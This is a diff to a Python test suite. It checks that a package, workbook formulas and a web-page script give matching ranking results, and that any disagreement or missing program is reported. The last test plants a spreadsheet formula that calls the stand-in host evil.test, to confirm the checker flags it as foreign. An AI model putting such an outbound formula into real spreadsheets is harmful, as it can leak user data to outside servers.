@@ -5,6 +5,7 @@ from __future__ import annotations
 import base64
 import datetime as dt
 import io
+import json
 import lzma
 import re
 import shutil
@@ -15,6 +16,7 @@ from dataclasses import replace
 from pathlib import Path
 
 import numpy as np
+import openpyxl
 import pandas as pd
 import pytest
 from hypothesis import given, settings
@@ -27,12 +29,28 @@ from tests.sealing import sealed, verified, with_new_manifests, write_house
 from tests.test_command_line import run
 from toolkit.evaluation import Evaluation, scored
 from toolkit.ground.ranking import Ruling, Tie
+from toolkit.ground.text import Phrase
 from toolkit.minutes.decisions import decide_state
 from toolkit.publication import open_rows as opening
 from toolkit.publication.extract import read_extract
 from toolkit.publication.open_rows import NARROW, OpenRows, open_rows
+from toolkit.sealing import agreement
+from toolkit.sealing.agreement import (
+    CANNOT,
+    FORMULAS,
+    NO_BROWSER,
+    NO_OFFICE,
+    PACKAGE,
+    SCRIPT,
+    by_page,
+    by_workbook,
+    disagreements,
+    opinions,
+    told,
+)
 from toolkit.sealing.open_bag import Facts, fingerprint_of, read_open, write_open
 
+OFFICE, BROWSER = agreement._program(agreement.OFFICE), agreement._program(agreement.BROWSERS)
 CONSENT = """
 [publication.consent]
 table = "members"
@@ -104,6 +122,8 @@ def sent(edition: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
     done = run("publish", bag, "--to", place / "out")
     assert done.exit_code == 0, done.output
     assert "列入 5 家（共 12 家）" in done.output, done.output
+    assert ("三种算法一致：软件包、工作簿公式、网页程序" if OFFICE and BROWSER else "算法一致：软件包") in done.output
+    assert ("没有 LibreOffice" in done.output) == (OFFICE is None)
     return place / "out"
 
 
@@ -323,3 +343,57 @@ def test_what_is_written_is_read_again(sent: Path, tmp_path: Path) -> None:
     for path in (sent / "open" / "data").iterdir():
         if path.name != "README.md":
             assert (tmp_path / "again" / path.name).read_bytes() == path.read_bytes(), path.name
+
+
+# Three programs for one rule: each is broken once, and is told; one that is not there is told as not run.
+
+
+def test_another_result_of_any_is_told(sent: Path, edition: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    bag, out = edition / "sealed" / "r1", sent
+    opened = Path(shutil.copytree(out / "open", tmp_path / "open"))
+    scores = opened / "data" / "scores.csv"
+    scores.chmod(0o644)
+    scores.write_text(re.sub(r"(\d)\.(\d)\n", r"\1.\g<2>1\n", scores.read_text("utf-8-sig"), count=1) + "x", "utf-8-sig")
+    for name in ("by_workbook", "by_page"):
+        monkeypatch.setattr(agreement, name, lambda _: False)
+    found = list(opinions(bag, opened, out / "results.html"))
+    assert [same for _, same in found] == [False, False, False]
+    assert [problem.rule.zh for problem in disagreements(found)] == [f"算法不一致：{name.zh}得出的结果与公布的不同" for name in (PACKAGE, FORMULAS, SCRIPT)]
+
+
+def test_what_is_not_there_is_told_as_not_run(sent: Path, edition: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    bag, out = edition / "sealed" / "r1", sent
+    monkeypatch.setattr(agreement, "_program", lambda _: None)
+    found = list(opinions(bag, out / "open", out / "results.html"))
+    assert [same for _, same in found] == [True, NO_OFFICE, NO_BROWSER]
+    assert [said.zh for said in told(found)] == ["算法一致：软件包", "未运行：工作簿公式（本机没有 LibreOffice）", "未运行：网页程序（本机没有 Chromium）"]
+    assert not disagreements(found).errors
+
+
+@pytest.mark.skipif(BROWSER is None, reason="needs Chromium: install the package chromium")
+def test_a_page_with_another_total_or_a_script_with_another_rule_is_noticed(sent: Path, tmp_path: Path) -> None:
+    text = (sent / "results.html").read_text("utf-8")
+    data = json.loads(re.search(r'id="data">(.*?)</script>', text)[1])  # type: ignore[index]
+    assert by_page(sent / "results.html") is True
+    data["results"][0]["total"] += 0.5
+    changed = {"total": json.dumps(data), "unknown": json.dumps(data | {"scheme": data["scheme"] | {"lottery": 1}})}
+    wanted: dict[str, bool | Phrase] = {"total": False, "unknown": CANNOT}
+    for name, written in changed.items():
+        page = tmp_path / f"{name}.html"
+        page.write_text(re.sub(r'(id="data">).*?(</script>)', lambda match, put=written: match[1] + put + match[2], text, count=1), "utf-8")
+        assert by_page(page) == wanted[name]
+
+
+@pytest.mark.skipif(OFFICE is None, reason="needs LibreOffice to compute the formulas")
+def test_a_workbook_with_another_formula_is_noticed(edition: Path, sent: Path, tmp_path: Path) -> None:
+    workbook = edition / "sealed" / "r1" / "data" / "results" / "evaluation.xlsx"
+    assert by_workbook(workbook) is True
+    book = openpyxl.load_workbook(workbook)
+    sheet = book["名次与奖项复算"]
+    column = next(cell.column for cell in sheet[3] if cell.value == "名次")
+    sheet.cell(4, column).value = str(sheet.cell(4, column).value).replace("1+SUMPRODUCT", "2+SUMPRODUCT")
+    book.save(tmp_path / "other.xlsx")
+    assert by_workbook(tmp_path / "other.xlsx") is False
+    sheet.cell(4, column).value = '=WEBSERVICE("http://evil.test")'
+    book.save(tmp_path / "foreign.xlsx")
+    assert by_workbook(tmp_path / "foreign.xlsx") == agreement.FOREIGN
